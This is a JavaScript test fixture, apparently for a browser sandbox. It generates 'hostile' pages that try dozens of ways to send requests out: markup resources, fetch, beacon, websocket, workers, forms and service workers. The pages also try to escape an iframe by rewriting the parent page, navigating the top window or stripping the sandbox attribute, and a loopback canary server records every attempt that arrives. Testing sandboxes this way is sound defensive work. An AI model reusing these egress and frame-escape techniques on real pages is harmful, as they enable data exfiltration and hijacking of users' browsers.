// A page that tries to get out, by every way that a browser offers; and a canary outside, on
// loopback, that hears whoever got there.

import { createServer } from 'node:http';

// What markup alone can attempt, without a script.
const MARKUP = (to) => `
  <link rel="stylesheet" href="${to('stylesheet')}">
  <link rel="icon" href="${to('icon')}">
  <link rel="prefetch" href="${to('prefetch')}">
  <link rel="preload" as="image" href="${to('preload')}">
  <link rel="modulepreload" href="${to('modulepreload')}">
  <link rel="manifest" href="${to('manifest')}">
  <style>
    @import url("${to('import-css')}");
    @font-face { font-family: out; src: url("${to('font')}"); }
    #styled { background: url("${to('background')}"); font-family: out, serif; cursor: url("${to('cursor')}"), auto; }
    li { list-style-image: url("${to('list-style')}"); }
  </style>
  <p id="styled">styled</p><ul><li>listed</li></ul>
  <img src="${to('image')}" srcset="${to('srcset')} 2x">
  <picture><source srcset="${to('picture')}"><img></picture>
  <input type="image" src="${to('input-image')}">
  <video src="${to('video')}" poster="${to('poster')}"></video>
  <audio src="${to('audio')}"></audio>
  <iframe src="${to('iframe')}"></iframe>
  <iframe srcdoc="&lt;img src='${to('srcdoc')}'&gt;"></iframe>
  <object data="${to('object')}"></object>
  <embed src="${to('embed')}">
  <svg><image href="${to('svg-image')}"/><use href="${to('svg-use')}#x"/></svg>
  <table background="${to('table-background')}"><tr><td>x</td></tr></table>
  <script src="${to('script')}"></script>
  <img src="x:" onerror="new Image().src='${to('onerror')}'">`;

// What a script can attempt; each is tried whatever becomes of the others.
const SCRIPT = (to) => `
  const outcome = {};
  const attempt = (name, act) => {
    try { outcome[name] = String(act()); } catch (error) { outcome[name] = error.name; }
  };
  const append = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
  const later = [];
  attempt('fetch', () => later.push(fetch('${to('fetch')}', { mode: 'no-cors' })));
  attempt('fetch-post', () => later.push(fetch('${to('fetch-post')}', { method: 'POST', mode: 'no-cors', body: 'x' })));
  attempt('keepalive', () => later.push(fetch('${to('keepalive')}', { keepalive: true, mode: 'no-cors' })));
  attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '${to('xhr')}'); x.send(); });
  attempt('beacon', () => navigator.sendBeacon('${to('beacon')}', 'x'));
  attempt('event-source', () => new EventSource('${to('event-source')}'));
  attempt('websocket', () => new WebSocket('${to('websocket').replace(/^http/, 'ws')}'));
  attempt('new-image', () => { new Image().src = '${to('new-image')}'; });
  attempt('new-script', () => append('script', { src: '${to('new-script')}' }));
  attempt('import', () => later.push(import('${to('import')}')));
  attempt('worker', () => new Worker('${to('worker')}'));
  attempt('blob-worker', () => new Worker(URL.createObjectURL(new Blob(["fetch('${to('blob-worker')}', {mode: 'no-cors'}); importScripts('${to('import-scripts')}')"]))));
  attempt('new-frame', () => append('iframe', { src: '${to('new-frame')}' }));
  attempt('blob-frame', () => append('iframe', { src: URL.createObjectURL(new Blob(["<img src='${to('blob-frame')}'>"], { type: 'text/html' })) }));
  attempt('form', () => { append('form', { method: 'post', action: '${to('form')}', id: 'form' }); append('iframe', { name: 'sink' }); form.target = 'sink'; form.submit(); });
  attempt('form-blank', () => { form.action = '${to('form-blank')}'; form.target = '_blank'; form.submit(); });
  attempt('ping', () => { const a = document.createElement('a'); a.href = '#here'; a.ping = '${to('ping')}'; document.body.append(a); a.click(); });
  attempt('open', () => window.open('${to('open')}'));
  attempt('open-top', () => window.open('${to('open-top')}', '_top'));
  attempt('open-parent', () => window.open('${to('open-parent')}', '_parent'));
  attempt('link-top', () => { const a = document.createElement('a'); a.href = '${to('link-top')}'; a.target = '_top'; document.body.append(a); a.click(); });
  attempt('service-worker', () => later.push(navigator.serviceWorker.register('${to('service-worker')}')));
  attempt('audio-worklet', () => later.push(new AudioContext().audioWorklet.addModule('${to('worklet')}')));
  attempt('speculation', () => append('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: ['${to('speculation')}'] }] }) }));
  if (self !== top) {
    attempt('parent-document', () => { parent.document.title = 'pwned'; });
    attempt('parent-property', () => { parent.pwned = true; });
    attempt('parent-address', () => parent.location.href);
    attempt('top-document', () => { top.document.body.innerHTML = '<b class=pwned>pwned</b>'; });
    attempt('frame-element', () => frameElement.removeAttribute('sandbox'));
    attempt('top-location', () => { top.location = '${to('top-location')}'; });
    attempt('parent-location', () => { parent.location.href = '${to('parent-location')}'; });
    attempt('top-replace', () => { top.location.replace('${to('top-replace')}'); });
    attempt('top-hash', () => { top.location.hash = 'pwned'; });
    attempt('post-ready', () => { parent.postMessage('ready', '*'); });
    attempt('post-title', () => { parent.postMessage({ title: '<b class=pwned>pwned</b>', html: 'pwned', height: 1e9 }, '*'); });
  }
  attempt('cookie', () => { document.cookie = 'pwned=1'; return document.cookie; });
  attempt('local-storage', () => { localStorage.pwned = 1; });
  attempt('session-storage', () => { sessionStorage.pwned = 1; });
  attempt('indexed-db', () => indexedDB.open('pwned'));
  attempt('caches', () => later.push(caches.open('pwned')));
  attempt('base', () => document.baseURI);
  attempt('origin', () => self.origin);
  Promise.allSettled(later).then(() => setTimeout(() => console.log('hostile done ' + JSON.stringify(outcome)), 500));`;

// `to(kind)` is the address that an attempt goes to.
export function hostileDocument(to) {
  return `<!doctype html><title>A harmless title</title><body>
  <h1 id="marker">Harmless to look at</h1>
  ${MARKUP(to)}
  <script>${SCRIPT(to)}</script>
  <img id="last" width="20" height="20" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'/>">`;
}

// A page that goes elsewhere: by itself, or when its script says so.
export const refreshingDocument = (address) =>
  `<!doctype html><meta http-equiv="refresh" content="0;url=${address}"><h1 id="marker">About to go</h1>`;
export const navigatingDocument = (address) =>
  `<!doctype html><h1 id="marker">About to go</h1><script>console.log('hostile goes'); location = '${address}'</script>`;

// A page whose forms a person is talked into submitting.
export const askingDocument = (to) => `<!doctype html><h1 id="marker">Sign here</h1>
  <form method="post" action="${to('post-here')}"><button id="here">here</button></form>
  <form method="post" action="${to('post-window')}" target="_blank"><button id="window">in a window</button></form>
  <form method="get" action="${to('get-window')}" target="_blank"><button id="query">as a query</button></form>`;

// Hears requests, and counts every byte that comes. `home` is a document that it serves itself.
// Bare connections are not counted: Chromium opens one for a frame's navigation before it looks
// at the policy that then refuses it (docs/SECURITY.md).
export class Canary {
  constructor() {
    this.heard = [];
    this.sockets = [];
    this.home = '';
    this.server = createServer((incoming, outgoing) => this.#answer(incoming, outgoing));
    this.server.on('connection', (socket) => this.sockets.push(socket));
    this.server.on('upgrade', (incoming, socket) => {
      this.heard.push(incoming.url.slice(1));
      socket.destroy();
    });
  }

  #answer(incoming, outgoing) {
    if (incoming.url === '/home') {
      outgoing.writeHead(200, { 'Content-Type': 'text/html' });
      outgoing.end(this.home);
      return;
    }
    if (incoming.url !== '/favicon.ico') this.heard.push(incoming.url.slice(1));
    outgoing.writeHead(204, { 'Access-Control-Allow-Origin': '*', Connection: 'close' });
    outgoing.end();
  }

  async listen() {
    await new Promise((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    this.url = `http://127.0.0.1:${this.server.address().port}`;
    this.to = (kind) => `${this.url}/${kind}`;
    return this;
  }

  forget() {
    this.heard = [];
    this.sockets = [];
  }

  get bytes() {
    return this.sockets.reduce((sum, socket) => sum + socket.bytesRead, 0);
  }

  close() {
    this.server.closeAllConnections();
    return new Promise((resolve) => this.server.close(resolve));
  }
}
